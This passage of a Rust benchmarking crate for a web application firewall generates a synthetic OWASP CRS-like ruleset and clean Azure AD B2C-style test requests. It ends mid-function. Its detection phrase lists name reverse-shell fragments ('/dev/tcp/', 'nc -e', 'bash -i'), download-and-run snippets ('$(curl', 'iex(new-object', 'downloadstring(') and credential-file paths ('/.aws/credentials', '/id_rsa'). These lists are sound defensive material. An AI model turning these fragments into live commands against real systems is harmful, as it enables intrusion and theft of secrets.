//! Workloads for benchmarking the WAF engine.
//!
//! The criterion suite in `benches/engine.rs` is built from these generators, and later load
//! tests reuse them, so every figure the project quotes comes from the same rules and the same
//! requests:
//!
//! - [`synthetic_ruleset`]: a YAML ruleset shaped like the OWASP Core Rule Set — case-insensitive
//!   regex rules over a keyword vocabulary, phrase lists, libinjection rules — of any size,
//!   generated deterministically from a seed;
//! - [`login_post_1k`], [`json_16k`], [`authorize_get`]: clean, realistic requests of an Azure
//!   AD B2C-style login service. None of them matches any generated rule.
//!
//! ```
//! use waf_benches::{login_post_1k, synthetic_ruleset, DEFAULT_SEED};
//!
//! let yaml = synthetic_ruleset(100, DEFAULT_SEED);
//! let set = waf_core::RuleSet::from_yaml_str(&yaml, "synthetic.yaml").unwrap();
//! let program = waf_core::compile(&set).unwrap();
//! assert!(program.inspect(&login_post_1k()).matches.is_empty());
//! ```

// `deny`, not `forbid`: the one exception is `modsecurity`, the peer's C library.
#![deny(unsafe_code)]
#![warn(missing_docs)]

pub mod modsecurity;

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr};

use waf_core::Request;

/// The seed the benchmarks use, so that every run measures the same ruleset.
pub const DEFAULT_SEED: u64 = 0x5EED_2024;

/// How many phrase-list (`pm`) rules [`synthetic_ruleset`] adds to the regex rules.
pub const PHRASE_RULES: usize = 10;

/// How many libinjection rules (`detect_sqli`, `detect_xss`) [`synthetic_ruleset`] adds.
pub const DETECT_RULES: usize = 3;

/// One regex rule in this many has no literal the compiler can extract (the residual path).
pub const RESIDUAL_EVERY: usize = 20;

/// How many of `n_regex` generated regex rules are residual (have no extractable literal).
///
/// ```
/// assert_eq!(waf_benches::residual_count(500), 25);
/// ```
pub fn residual_count(n_regex: usize) -> usize {
    n_regex / RESIDUAL_EVERY
}

/// A tiny xorshift64* generator: deterministic across platforms and releases, no dependency.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        // SplitMix64 scrambles the seed so that nearby seeds give unrelated streams.
        let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^= z >> 31;
        Rng(z.max(1))
    }

    fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Uniform in `0..n` (n > 0; the modulo bias is irrelevant here).
    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + self.below(hi - lo + 1)
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    /// `k` distinct items (fewer when the slice is shorter).
    fn sample<'a, T>(&mut self, items: &'a [T], k: usize) -> Vec<&'a T> {
        let mut idx: Vec<usize> = (0..items.len()).collect();
        let k = k.min(idx.len());
        for i in 0..k {
            let j = i + self.below(idx.len() - i);
            idx.swap(i, j);
        }
        idx[..k].iter().map(|&i| &items[i]).collect()
    }

    /// A made-up lowercase word of `syllables` consonant-vowel pairs (`kavoru`).
    fn token(&mut self, syllables: usize) -> String {
        const C: &[u8] = b"bdfgklmnprstvz";
        const V: &[u8] = b"aeiou";
        let mut s = String::with_capacity(syllables * 2);
        for _ in 0..syllables {
            s.push(char::from(*self.pick(C)));
            s.push(char::from(*self.pick(V)));
        }
        s
    }

    /// `len` characters of the base64url alphabet.
    fn base64ish(&mut self, len: usize) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        (0..len).map(|_| char::from(*self.pick(A))).collect()
    }
}

/// The shape of a regex rule, the way CRS writes them. `{A}` is an alternation of the family's
/// keywords (plus one made-up token, so that no two rules are alike), `{B}` of its tails.
#[derive(Clone, Copy)]
enum Shape {
    /// `sleep(`, `eval (`
    Call,
    /// `union all select`
    Sequence,
    /// a keyword, punctuation, another keyword
    Separated,
    /// `<script ...>`
    Tag,
    /// `; wget -q`, `$(curl /`
    Shell,
    /// `onerror=alert(`
    Assign,
    /// `select/**/from`
    Comment,
    /// `../etc/passwd`, `/wp-config.php`
    Path,
}

impl Shape {
    fn pattern(self, a: &str, b: &str) -> String {
        match self {
            Shape::Call => format!(r"(?i)\b(?:{a})\s*\("),
            Shape::Sequence => {
                format!(r"(?i)\b(?:{a})\s+(?:(?:all|distinct|top\s+\d+)\s+)?(?:{b})\b")
            }
            Shape::Separated => format!(r"(?i)[^a-z0-9_](?:{a})[^a-z0-9_]+(?:{b})"),
            Shape::Tag => format!(r"(?i)<\s*/?\s*(?:{a})[^>]*>"),
            Shape::Shell => format!(r"(?i)(?:^|[;|&\x60]|\$\()\s*(?:{a})(?:\.exe)?\s+[-/]"),
            Shape::Assign => format!(r"(?i)\b(?:{a})\s*=\s*[^=\s&]*\("),
            Shape::Comment => format!(r"(?i)(?:{a})\s*/\*.*?\*/\s*(?:{b}|\()"),
            Shape::Path => format!(r"(?i)(?:\.\./|/)(?:{a})(?:/|\.(?:php|aspx?|jsp|cgi)\b)"),
        }
    }
}

/// An attack family: its CRS tag, vocabulary and the shapes its rules take.
struct Family {
    tag: &'static str,
    heads: &'static [&'static str],
    tails: &'static [&'static str],
    shapes: &'static [Shape],
}

const FAMILIES: &[Family] = &[
    Family {
        tag: "attack-sqli",
        heads: &[
            "select",
            "union",
            "insert",
            "update",
            "delete",
            "drop",
            "truncate",
            "having",
            "group_concat",
            "information_schema",
            "benchmark",
            "sleep",
            "waitfor",
            "load_file",
            "outfile",
            "concat_ws",
            "substring",
            "ascii",
            "unhex",
            "xp_cmdshell",
            "sp_executesql",
            "pg_sleep",
            "dbms_pipe",
            "utl_http",
            "sysobjects",
            "syscolumns",
            r"mysql\.user",
            "@@version",
            "extractvalue",
            "updatexml",
            "char",
            "procedure",
        ],
        tails: &[
            "select", "from", "into", "where", "table", "values", "exec", "delay", "limit",
            "order", "tables",
        ],
        shapes: &[
            Shape::Call,
            Shape::Sequence,
            Shape::Separated,
            Shape::Comment,
        ],
    },
    Family {
        tag: "attack-xss",
        heads: &[
            "alert",
            "eval",
            "prompt",
            "confirm",
            "fromcharcode",
            "settimeout",
            "setinterval",
            r"document\.cookie",
            r"document\.write",
            "innerhtml",
            "onerror",
            "onload",
            "onmouseover",
            "onfocus",
            "javascript",
            "vbscript",
            "iframe",
            "script",
            "svg",
            "embed",
            "atob",
            "constructor",
            "srcdoc",
            "formaction",
            "ontoggle",
            "onanimationstart",
        ],
        tails: &[
            "alert", "eval", "src", "href", "data", "cookie", "location", "window",
        ],
        shapes: &[Shape::Call, Shape::Tag, Shape::Assign, Shape::Separated],
    },
    Family {
        tag: "attack-rce",
        heads: &[
            "wget",
            "curl",
            "bash",
            "chmod",
            "chown",
            "netcat",
            "ncat",
            "python[23]?",
            "perl",
            "powershell",
            "cmd",
            "certutil",
            "bitsadmin",
            "whoami",
            "uname",
            "ifconfig",
            "crontab",
            "nslookup",
            "telnet",
            "tftp",
            "rundll32",
            "regsvr32",
            "mshta",
            "cscript",
            "wscript",
            "busybox",
            "socat",
        ],
        tails: &[
            "http", "tmp", "dev", "bin", "c", "enc", "urlcache", "transfer",
        ],
        shapes: &[Shape::Shell, Shape::Call, Shape::Separated],
    },
    Family {
        tag: "attack-injection-php",
        heads: &[
            "base64_decode",
            "gzinflate",
            "str_rot13",
            "passthru",
            "shell_exec",
            "proc_open",
            "popen",
            "assert",
            "create_function",
            "call_user_func",
            "preg_replace",
            "getruntime",
            "processbuilder",
            "classloader",
            "forname",
            "newinstance",
            "scriptengine",
            "file_get_contents",
            "unserialize",
        ],
        tails: &[
            "exec", "eval", "system", "invoke", "input", "filter", "phar",
        ],
        shapes: &[Shape::Call, Shape::Separated, Shape::Assign],
    },
    Family {
        tag: "attack-lfi",
        heads: &[
            "etc/passwd",
            "etc/shadow",
            "proc/self",
            r"boot\.ini",
            r"win\.ini",
            r"web\.config",
            "wp-config",
            r"\.htaccess",
            r"\.htpasswd",
            r"\.git",
            r"\.env",
            "phpinfo",
            "cgi-bin",
            "shell",
            "admin/config",
            "server-status",
        ],
        tails: &["environ", "passwd", "config", "head", "cmdline"],
        shapes: &[Shape::Path, Shape::Separated],
    },
];

/// Target lists in the proportions CRS uses them: mostly the argument group.
const TARGETS: &[&str] = &[
    "[request_cookies, args_names, args]",
    "[request_cookies, args_names, args]",
    "[args, args_names]",
    "[args]",
    "[args]",
    "[request_cookies, args_names, args, request_headers:user-agent, request_headers:referer]",
    "[args, request_headers:user-agent]",
    "[request_filename, args]",
    "[request_filename]",
    "[request_headers:user-agent, request_headers:referer]",
];

/// The transformation chains CRS rules use most.
const CHAINS: &[&str] = &[
    "[url_decode_uni, lowercase]",
    "[url_decode_uni, html_entity_decode, lowercase]",
    "[lowercase]",
    "[url_decode_uni, compress_whitespace, lowercase]",
    "[]",
    "[url_decode_uni, remove_nulls, lowercase]",
];

/// Quotes a YAML scalar in single quotes (no escapes there except `''`).
fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

/// A regex with no literal of two bytes or more: the compiler cannot gate it, so it runs on
/// every value (the residual path). `nth` (the residual rule's rank) keeps them distinct.
fn residual_pattern(rng: &mut Rng, nth: usize) -> String {
    match rng.below(5) {
        0 => format!("[0-9]{{{},}}", 24 + nth),
        1 => format!("(?:[a-z][0-9]){{{}}}", 8 + nth),
        2 => format!(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]{{{},}}", 2 + nth),
        3 => format!("(?:%[0-9a-f]{{2}}){{{},}}", 6 + nth),
        _ => format!(r"[^\x09\x0a\x0d\x20-\x7e]{{{},}}", 10 + nth),
    }
}

/// One gated regex rule's pattern and tag.
fn regex_pattern(rng: &mut Rng) -> (String, &'static str) {
    let family = rng.pick(FAMILIES);
    let shape = *rng.pick(family.shapes);
    let n_heads = rng.range(1, 5);
    let mut heads: Vec<String> = rng
        .sample(family.heads, n_heads)
        .into_iter()
        .map(|s| s.to_string())
        .collect();
    // The made-up token keeps every rule distinct, as CRS rules are.
    let position = rng.below(heads.len() + 1);
    let syllables = rng.range(3, 4);
    heads.insert(position, rng.token(syllables));
    let n_tails = rng.range(1, 3);
    let tails: Vec<&str> = rng
        .sample(family.tails, n_tails)
        .into_iter()
        .copied()
        .collect();
    (
        shape.pattern(&heads.join("|"), &tails.join("|")),
        family.tag,
    )
}

/// Seed phrases of each phrase list, with the targets, transforms and tag of its rule.
struct PhraseList {
    tag: &'static str,
    targets: &'static str,
    transforms: &'static str,
    phrases: &'static [&'static str],
    /// How made-up phrases of this list look: `{}` is the token.
    filler: &'static str,
}

const PHRASE_LISTS: [PhraseList; PHRASE_RULES] = [
    PhraseList {
        tag: "attack-reputation-scanner",
        targets: "[request_headers:user-agent]",
        transforms: "[lowercase]",
        phrases: &[
            "nikto", "sqlmap", "nmap scripting engine", "masscan", "acunetix", "netsparker",
            "w3af.org", "dirbuster", "gobuster", "wpscan", "nessus", "openvas", "zgrab",
            "nuclei", "havij", "jaeles", "arachni", "skipfish", "whatweb", "fimap",
        ],
        filler: "{}-scanner",
    },
    PhraseList {
        tag: "attack-lfi",
        targets: "[request_filename]",
        transforms: "[url_decode_uni, lowercase]",
        phrases: &[
            "/.git/", "/.env", "/web.config", "/wp-config.php", "/.htpasswd", "/.htaccess",
            "/.svn/", "/.ds_store", "/id_rsa", "/.bash_history", "/etc/passwd", "/.aws/credentials",
            "/phpinfo.php", "/server-status", "/.npmrc", "/composer.lock", "/.dockerenv",
            "/docker-compose.yml", "/.kube/config", "/backup.sql",
        ],
        filler: "/{}.bak",
    },
    PhraseList {
        tag: "attack-rce",
        targets: "[request_cookies, args_names, args]",
        transforms: "[url_decode_uni, compress_whitespace, lowercase]",
        phrases: &[
            "/etc/passwd", "/etc/shadow", "/bin/sh", "/bin/bash", "/dev/tcp/", "/proc/self/environ",
            "$(curl", "$(wget", ";wget ", "|nc ", "nc -e", "bash -i", "/usr/bin/id",
            "chmod +x", "mkfifo /tmp", "/bin/busybox", "python -c", "perl -e", "echo${ifs}",
            "${ifs}",
        ],
        filler: "/usr/bin/{}",
    },
    PhraseList {
        tag: "attack-rce",
        targets: "[request_cookies, args_names, args]",
        transforms: "[url_decode_uni, lowercase]",
        phrases: &[
            "cmd.exe /c", "cmd /c", "powershell -enc", "powershell.exe", "certutil -urlcache",
            "bitsadmin /transfer", "rundll32.exe", "regsvr32 /s", "wmic process", "net user ",
            "net localgroup", "reg add hk", "schtasks /create", "mshta http", "invoke-expression",
            "iex(new-object", "downloadstring(", "start-process", "vssadmin delete",
            "wscript.shell",
        ],
        filler: "{}.exe /c",
    },
    PhraseList {
        tag: "attack-injection-php",
        targets: "[request_cookies, args_names, args]",
        transforms: "[url_decode_uni, lowercase]",
        phrases: &[
            "base64_decode(", "gzinflate(", "str_rot13(", "shell_exec(", "passthru(",
            "proc_open(", "php://input", "php://filter", "data://text/plain", "expect://",
            "phar://", "zip://", "<?php", "call_user_func(", "create_function(",
            "file_put_contents(", "move_uploaded_file(", "$_get[", "$_post[", "$_request[",
        ],
        filler: "{}(",
    },
    PhraseList {
        tag: "attack-injection-java",
        targets: "[request_cookies, args_names, args, request_headers:user-agent, request_headers:referer]",
        transforms: "[url_decode_uni, lowercase]",
        phrases: &[
            "java.lang.runtime", "java.lang.processbuilder", "getruntime().exec", "${jndi:",
            "${env:", "${sys:", "classloader.", "javax.script", "ognl.", "@java.lang",
            "xwork.methodaccessor", "java.io.file", "freemarker.template", "#_memberaccess",
            "class.module.", "springframework.context", "java.net.url", "objectinputstream",
            "readobject(", "ysoserial",
        ],
        filler: "java.lang.{}",
    },
    PhraseList {
        tag: "attack-sqli",
        targets: "[request_cookies, args_names, args]",
        transforms: "[url_decode_uni, compress_whitespace, lowercase]",
        phrases: &[
            "information_schema", "pg_sleep(", "waitfor delay", "xp_cmdshell", "load_file(",
            "into outfile", "into dumpfile", "group_concat(", "dbms_pipe.receive_message",
            "utl_http.request", "sysobjects", "syscolumns", "@@version", "mysql.user",
            "pg_shadow", "sqlite_master", "msysobjects", "benchmark(", "sys.user_tables",
            "extractvalue(",
        ],
        filler: "{}_schema",
    },
    PhraseList {
        tag: "attack-xss",
        targets: "[request_cookies, args_names, args, request_headers:referer]",
        transforms: "[url_decode_uni, html_entity_decode, lowercase]",
        phrases: &[
            "document.cookie", "document.domain", "document.write(", ".innerhtml", "<script",
            "javascript:", "vbscript:", "onerror=", "onload=", "<iframe", "<svg/onload",
            "fromcharcode(", "string.fromcharcode", "srcdoc=", "formaction=", "<embed",
            "expression(", "-moz-binding", "livescript:", "window.location=",
        ],
        filler: "on{}=",
    },
    PhraseList {
        tag: "attack-protocol",
        targets: "[request_headers:user-agent, request_headers:referer]",
        transforms: "[lowercase]",
        phrases: &[
            "() {", "\r\ncontent-", "%0d%0a", "\\r\\n", "transfer-encoding:", "x-forwarded-host:",
            "set-cookie:", "location:", "<!entity", "<!doctype", "http/1.0\r", "\nhost:",
            "content-length:", "x-original-url:", "x-rewrite-url:", "proxy-authorization:",
            "%u000d", "%c0%ae", "%e0%80%ae", "%25%32%65",
        ],
        filler: "x-{}:",
    },
    PhraseList {
        tag: "attack-ssti",
        targets: "[request_cookies, args_names, args]",
        transforms: "[url_decode_uni, lowercase]",
        phrases: &[
            "{{7*7}}", "${7*7}", "<%=", "#{7*7}", "{{config", "{{self", "__class__",
            "__globals__", "__builtins__", "__subclasses__", "__import__", "{% import",
            "{{request", "th:text=", "*{t(", "#set($", "$class.inspect", "velocity.",
            "freemarker.", "{php}",
        ],
        filler: "{{{}}}",
    },
];

/// A YAML ruleset shaped like the OWASP Core Rule Set, `n_regex` regex rules large.
///
/// The same `(n_regex, seed)` always gives the same text. It holds, in order:
///
/// - `n_regex` regex rules (ids from 910000). Each is a case-insensitive alternation or sequence
///   over the keyword vocabulary of one attack family — SQL, shell, JavaScript, PHP/Java, path
///   traversal — with CRS's usual classes (`\s+`, `[^a-z0-9_]`, `\(`) and optional groups, and
///   one made-up token among its keywords so that no two rules are alike. Targets mix `args`,
///   `args_names`, `request_cookies`, `request_headers:user-agent`, `request_headers:referer`
///   and `request_filename`; the transformation chain is one of six common ones. One rule in
///   [`RESIDUAL_EVERY`] has no extractable literal (`[0-9]{24,}`, `(?:[a-z][0-9]){8}`...), so
///   the compiled program must run it on every value ([`residual_count`]);
/// - [`PHRASE_RULES`] phrase-list rules (ids from 930000): scanner user agents, restricted files,
///   Unix and Windows commands, PHP, Java, SQL, XSS, protocol and template-injection phrases,
///   20 to 200 phrases each;
/// - [`DETECT_RULES`] libinjection rules (ids from 942100): `detect_sqli` and `detect_xss`.
///
/// Every rule is critical at paranoia level 1, with the default anomaly threshold of 5: a single
/// match blocks. The requests of this crate match none of them.
///
/// ```
/// let yaml = waf_benches::synthetic_ruleset(10, 1);
/// let set = waf_core::RuleSet::from_yaml_str(&yaml, "synthetic.yaml").unwrap();
/// assert_eq!(set.rules().count(), 10 + waf_benches::PHRASE_RULES + waf_benches::DETECT_RULES);
/// ```
pub fn synthetic_ruleset(n_regex: usize, seed: u64) -> String {
    let mut rng = Rng::new(seed);
    let mut out = String::with_capacity(300 * n_regex + 40_000);
    out.push_str("# Synthetic CRS-like ruleset, generated by waf-benches.\n");
    out.push_str("settings:\n  paranoia: 1\n  anomaly_threshold: 5\nrules:\n");
    for i in 0..n_regex {
        let residual = i % RESIDUAL_EVERY == RESIDUAL_EVERY - 1;
        let (pattern, tag) = if residual {
            (
                residual_pattern(&mut rng, i / RESIDUAL_EVERY),
                "attack-protocol",
            )
        } else {
            regex_pattern(&mut rng)
        };
        let targets = *rng.pick(TARGETS);
        let chain = *rng.pick(CHAINS);
        let headers_only = !targets.contains("args") && !targets.contains("cookies");
        let _ = writeln!(out, "  - id: {}", 910_000 + i);
        let _ = writeln!(out, "    message: 'Synthetic {tag} rule {i}'");
        let _ = writeln!(out, "    severity: critical");
        if headers_only {
            let _ = writeln!(out, "    phase: headers");
        }
        let _ = writeln!(out, "    tags: [{tag}, paranoia-level/1, synthetic]");
        let _ = writeln!(out, "    targets: {targets}");
        let _ = writeln!(out, "    transforms: {chain}");
        let _ = writeln!(out, "    match: {{ rx: {} }}", quote(&pattern));
    }
    for (i, list) in PHRASE_LISTS.iter().enumerate() {
        let size = 20 + i * 180 / (PHRASE_RULES - 1);
        let mut phrases: Vec<String> = list.phrases.iter().map(|p| p.to_string()).collect();
        while phrases.len() < size {
            let syllables = rng.range(3, 4);
            let phrase = list.filler.replace("{}", &rng.token(syllables));
            if !phrases.contains(&phrase) {
                phrases.push(phrase);
            }
        }
        let quoted: Vec<String> = phrases.iter().map(|p| quote(p)).collect();
        let _ = writeln!(out, "  - id: {}", 930_000 + i);
        let _ = writeln!(out, "    message: 'Synthetic {} phrase list {i}'", list.tag);
        let _ = writeln!(out, "    severity: critical");
        let _ = writeln!(out, "    tags: [{}, paranoia-level/1, synthetic]", list.tag);
        let _ = writeln!(out, "    targets: {}", list.targets);
        let _ = writeln!(out, "    transforms: {}", list.transforms);
        let _ = writeln!(out, "    match: {{ pm: [{}] }}", quoted.join(", "));
    }
    out.push_str(DETECT_YAML);
    out
}

/// The libinjection rules, as CRS 942100 and 941100 place them.
const DETECT_YAML: &str = "  - id: 942100
    message: SQL injection attack detected via libinjection
    severity: critical
    tags: [attack-sqli, paranoia-level/1, synthetic]
    targets: [request_cookies, args_names, args]
    transforms: [url_decode_uni, remove_nulls]
    match: detect_sqli
  - id: 941100
    message: XSS attack detected via libinjection
    severity: critical
    tags: [attack-xss, paranoia-level/1, synthetic]
    targets: [request_cookies, args_names, args, request_headers:user-agent, request_headers:referer]
    transforms: [url_decode_uni, remove_nulls]
    match: detect_xss
  - id: 942101
    message: SQL injection attack detected via libinjection (headers)
    severity: critical
    tags: [attack-sqli, paranoia-level/1, synthetic]
    targets: [request_headers:user-agent, request_headers:referer]
    transforms: [url_decode_uni]
    match: detect_sqli
";

/// `n` variants of a request (seeds 1 to `n`), for benchmarks that cycle through them.
///
/// ```
/// let requests = waf_benches::variants(waf_benches::authorize_get_seeded, 4);
/// assert_eq!(requests.len(), 4);
/// ```
pub fn variants(make: fn(u64) -> Request, n: usize) -> Vec<Request> {
    (1..=n as u64).map(make).collect()
}

/// The size of a request as it would be sent over HTTP/1.1: request line, headers, blank line,
/// body. The benchmarks report throughput in these bytes.
///
/// ```
/// let r = waf_core::Request::builder().uri("/").header("Host", "a").build();
/// assert_eq!(waf_benches::wire_size(&r), "GET / HTTP/1.1\r\nHost: a\r\n\r\n".len());
/// ```
pub fn wire_size(request: &Request) -> usize {
    let headers: usize = request
        .headers()
        .iter()
        .map(|(n, v)| n.len() + 2 + v.len() + 2)
        .sum();
    request.request_line().len() + 2 + headers + 2 + request.body().len()
}

const CHROME_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
                         (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
const SEC_CH_UA: &str = r#""Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99""#;
const POLICY: &str = "B2C_1A_signup_signin";
const CLIENT_ID: &str = "8f3c2a61-4d7e-4b5a-9c1e-2f6d8b7a0e93";

fn client_addr() -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(203, 0, 113, 42))
}

/// The base64 JSON blob B2C keeps its transaction state in (`StateProperties=...`).
fn state_properties(rng: &mut Rng) -> String {
    format!("StateProperties=eyJUSUQiOiI{}", rng.base64ish(93))
}

/// The B2C session cookies of a browser in the middle of a sign-in.
fn b2c_cookies(rng: &mut Rng) -> String {
    format!(
        "x-ms-cpim-sso:contoso.onmicrosoft.com_0={sso}; x-ms-cpim-csrf={csrf}; \
         x-ms-cpim-trans={trans}; x-ms-cpim-cache|{cache_id}_0={cache}; \
         x-ms-cpim-dc=cpim-weu; ai_user=Wd3kP|2024-05-20T09:41:07.118Z",
        sso = format_args!("m1.{}", rng.base64ish(48)),
        csrf = rng.base64ish(64),
        trans = format_args!("eyJUX0RJQyI6W3siSSI6IjA{}", rng.base64ish(60)),
        cache_id = rng.base64ish(22).to_ascii_lowercase(),
        cache = format_args!("m1.{}", rng.base64ish(72)),
    )
}

/// A clean ~1 KB sign-in POST to a B2C `SelfAsserted` endpoint.
///
/// An `application/x-www-form-urlencoded` body of exactly 1,000 bytes (`request_type=RESPONSE`,
/// `signInName`, `password`, and the fields a custom policy page sends along), with the headers
/// Chrome sends on that XHR: `Host: login.contoso.com`, `User-Agent`, `Accept`,
/// `Accept-Language`, `Referer`, `Origin`, `X-CSRF-TOKEN`, the `sec-ch-ua` family and the
/// `x-ms-cpim-*` cookies. It contains no attack.
///
/// ```
/// let r = waf_benches::login_post_1k();
/// assert_eq!(r.body().len(), 1_000);
/// assert!(r.body().starts_with(b"request_type=RESPONSE&signInName="));
/// ```
pub fn login_post_1k() -> Request {
    login_post_1k_seeded(0x10_6175)
}

/// [`login_post_1k`] with other random values: what changes from one sign-in to the next (tokens,
/// ids, cookies, generated text) is drawn from `seed`; what belongs to the app stays. Benchmarks
/// cycle through several, because the engine remembers verdicts for values it has seen and a
/// request repeated byte for byte would flatter it.
///
/// ```
/// let a = waf_benches::login_post_1k_seeded(1);
/// let b = waf_benches::login_post_1k_seeded(2);
/// assert!(a.uri() != b.uri() || a.body() != b.body());
/// ```
pub fn login_post_1k_seeded(seed: u64) -> Request {
    const BODY_LEN: usize = 1_000;
    let mut rng = Rng::new(seed);
    let tx = state_properties(&mut rng);
    let mut body = String::from(
        "request_type=RESPONSE&signInName=zoe.martin%40contoso.com\
         &password=Blue%2BHarbor-2024%21&rememberMe=true&extension_agreedToTerms=true\
         &ui_locales=en-US&clientTimezone=Europe%2FParis&screenWidth=1920&screenHeight=1080\
         &colorDepth=24&browserLanguage=en-US&javaEnabled=false&cookiesEnabled=true\
         &pageViewId=3f0c9b1e-8a27-4c5d-b6e1-7d92a4f05c38\
         &correlationId=c1a4e6b2-0f3d-4e8a-9b57-2d6f81c3a9e0&diags=",
    );
    // B2C's page telemetry: a percent-encoded JSON summary of the page timings.
    body.push_str(
        "%7B%22pageId%22%3A%22CombinedSigninAndSignup%22%2C%22trace%22%3A%5B%7B%22ac%22%3A\
         %22T005%22%2C%22acST%22%3A1716198067%2C%22acD%22%3A7%7D%2C%7B%22ac%22%3A%22T021+-+\
         URL%3Ahttps%3A%2F%2Fcontoso.b2clogin.com%2Fstatic%2Funified.html%22%2C%22acST%22%3A\
         1716198067%2C%22acD%22%3A112%7D%2C%7B%22ac%22%3A%22T019%22%2C%22acST%22%3A1716198068\
         %2C%22acD%22%3A9%7D%5D%7D",
    );
    // Padded to the size with the device fingerprint the page computes.
    body.push_str("&deviceFingerprint=");
    let pad = BODY_LEN.saturating_sub(body.len());
    body.push_str(&rng.base64ish(pad));
    let referer = format!(
        "https://login.contoso.com/contoso.onmicrosoft.com/{POLICY}/oauth2/v2.0/authorize\
         ?client_id={CLIENT_ID}&redirect_uri=https%3A%2F%2Fapp.contoso.com%2Fsignin-oidc\
         &response_type=code&scope=openid%20profile%20offline_access&response_mode=form_post\
         &state={}&nonce={}",
        rng.base64ish(40),
        rng.base64ish(32)
    );
    let csrf = rng.base64ish(84);
    let cookies = b2c_cookies(&mut rng);
    Request::builder()
        .method("POST")
        .uri(format!(
            "/contoso.onmicrosoft.com/{POLICY}/SelfAsserted?tx={tx}&p={POLICY}"
        ))
        .header("Host", "login.contoso.com")
        .header("Connection", "keep-alive")
        .header("Content-Length", body.len().to_string())
        .header("sec-ch-ua", SEC_CH_UA)
        .header("X-CSRF-TOKEN", format!("{csrf}=="))
        .header("sec-ch-ua-mobile", "?0")
        .header("User-Agent", CHROME_UA)
        .header(
            "Content-Type",
            "application/x-www-form-urlencoded; charset=UTF-8",
        )
        .header("Accept", "application/json, text/javascript, */*; q=0.01")
        .header("X-Requested-With", "XMLHttpRequest")
        .header("sec-ch-ua-platform", "\"Windows\"")
        .header("Origin", "https://login.contoso.com")
        .header("Sec-Fetch-Site", "same-origin")
        .header("Sec-Fetch-Mode", "cors")
        .header("Sec-Fetch-Dest", "empty")
        .header("Referer", referer)
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
        .header("Accept-Language", "en-US,en;q=0.9,fr-FR;q=0.8,fr;q=0.7")
        .header("Cookie", cookies)
        .body(body)
        .remote_addr(client_addr())
        .build()
}

/// One user profile of [`json_16k`]'s body, as compact JSON.
fn profile_json(rng: &mut Rng, i: usize) -> String {
    const GIVEN: &[&str] = &[
        "Zoë", "Liam", "Amara", "José", "Mei", "Noah", "Łukasz", "Fatima", "Oskar", "Priya",
        "Hannah", "Kenji",
    ];
    const SURNAMES: &[&str] = &[
        "Martin",
        "Okafor",
        "García",
        "Chen",
        "Schmidt",
        "Nowak",
        "Haddad",
        "Lindqvist",
        "Sharma",
        "Dubois",
        "Tanaka",
        "Rossi",
    ];
    const CITIES: &[(&str, &str, &str)] = &[
        ("Paris", "75011", "FR"),
        ("Lyon", "69003", "FR"),
        ("Berlin", "10115", "DE"),
        ("Madrid", "28004", "ES"),
        ("Kraków", "31-042", "PL"),
        ("Stockholm", "114 55", "SE"),
        ("Milano", "20121", "IT"),
        ("Amsterdam", "1012 AB", "NL"),
    ];
    const STREETS: &[&str] = &[
        "Rue de la Roquette",
        "Invalidenstraße",
        "Calle de Atocha",
        "Via Torino",
        "Keizersgracht",
        "Drottninggatan",
    ];
    const TAGS: &[&str] = &[
        "premium",
        "beta-tester",
        "newsletter",
        "mobile-first",
        "family-plan",
        "early-adopter",
        "loyalty-gold",
        "b2b",
    ];
    const DEVICES: &[(&str, &str)] = &[
        ("phone", "iOS 17.4"),
        ("phone", "Android 14"),
        ("desktop", "Windows 11"),
        ("laptop", "macOS 14.4"),
        ("tablet", "iPadOS 17.4"),
    ];
    let given = *rng.pick(GIVEN);
    let surname = *rng.pick(SURNAMES);
    let (city, postal, country) = *rng.pick(CITIES);
    let street = *rng.pick(STREETS);
    let mail_user = format!("{}.{}", ascii_name(given), ascii_name(surname)).to_lowercase();
    let n_tags = rng.range(1, 3);
    let tags: Vec<String> = rng
        .sample(TAGS, n_tags)
        .into_iter()
        .map(|t| format!("\"{t}\""))
        .collect();
    let n_devices = rng.range(1, 3);
    let devices: Vec<String> = (0..n_devices)
        .map(|d| {
            let (kind, os) = *rng.pick(DEVICES);
            format!(
                r#"{{"id":"dev-{:08x}","type":"{kind}","os":"{os}","lastSeen":"2024-05-{:02}T{:02}:{:02}:00Z","trusted":{}}}"#,
                rng.next_u64() as u32,
                rng.range(1, 28),
                rng.range(0, 23),
                rng.range(0, 59),
                d == 0
            )
        })
        .collect();
    format!(
        r#"{{"id":"{id}","objectId":"{oid}","displayName":"{given} {surname}","givenName":"{given}","surname":"{surname}","email":"{mail_user}@example.com","phone":"+33 6 {p1:02} {p2:02} {p3:02} {p4:02}","locale":"en-GB","timezone":"Europe/Paris","address":{{"street":"{num} {street}","city":"{city}","postalCode":"{postal}","country":"{country}"}},"preferences":{{"theme":"{theme}","newsletter":{news},"notifications":{{"email":true,"sms":false,"push":{push}}},"language":"en"}},"tags":[{tags}],"devices":[{devices}],"loyalty":{{"tier":"{tier}","points":{points},"memberSince":"20{year:02}-0{month}-15"}},"createdAt":"2023-11-0{day}T08:30:00Z","updatedAt":"2024-05-20T09:41:07Z"}}"#,
        id = format_args!("usr_{:06}", 100_000 + i * 37),
        oid = uuid(rng),
        p1 = rng.range(10, 99),
        p2 = rng.range(10, 99),
